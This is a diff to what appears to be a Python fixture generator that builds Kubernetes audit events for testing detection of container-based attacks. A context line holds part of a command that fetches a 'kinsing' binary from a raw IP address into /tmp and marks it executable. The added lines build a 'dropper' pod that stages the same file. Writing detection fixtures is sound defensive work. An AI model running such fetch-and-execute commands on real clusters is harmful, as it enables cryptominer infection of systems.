@@ -613,6 +613,13 @@ def sweep_twins():
                                                 "http://194.38.20.199/kinsing; chmod +x /tmp/kinsing"])
     out.append(audit(t(), "create", "pods", "shop", user="alice@corp.example", name="web-7d9c5-0abcd",
                      subresource="exec", query=q + "&container=web&stderr=true&stdout=true"))
+    # a pod whose sweep-like sidecar stands beside the container that drops the file
+    pod = spec([ctr("app", "ubuntu:22.04", command=["sh", "-c", "cp /opt/k /tmp/kinsing && chmod +x /tmp/kinsing"]),
+                ctr("check", "busybox:1.36", command=["ls", "/tmp/kinsing"])], priority=None)
+    obj = {"kind": "Pod", "apiVersion": "v1",
+           "metadata": {"name": "dropper", "namespace": "default", "creationTimestamp": None}, "spec": pod}
+    out.append(audit(t(), "create", "pods", "default", user="alice@corp.example", name="dropper",
+                     request_object=obj))
     return out
 
 
